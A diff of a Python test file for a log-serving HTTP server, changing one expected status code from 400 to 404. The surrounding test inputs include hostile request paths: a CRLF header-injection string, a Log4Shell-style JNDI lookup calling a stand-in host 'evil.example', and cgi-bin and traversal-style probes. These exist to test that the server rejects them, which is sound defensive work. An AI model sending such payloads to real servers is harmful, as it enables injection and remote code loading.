@@ -289,7 +289,7 @@ REQUESTS: list[tuple[bytes, int]] = [
         b"/stream-logs/app.log", b"/metrics/", b"/healthz/x", b"/%0d%0aSet-Cookie:a=b",
         b"/;/index.html", b"/~root", b"/cgi-bin/test", b"/${jndi:ldap://evil.example/}",
     )),
-    (get(b"/logs/%ff"), 400),
+    (get(b"/logs/%ff"), 404),
     (get(b"/logs/%61pp.log"), 200),  # another way to write its name
     # --- queries
     (get(b"/stream-logs?backlog=" + b"9" * 5000), 400),
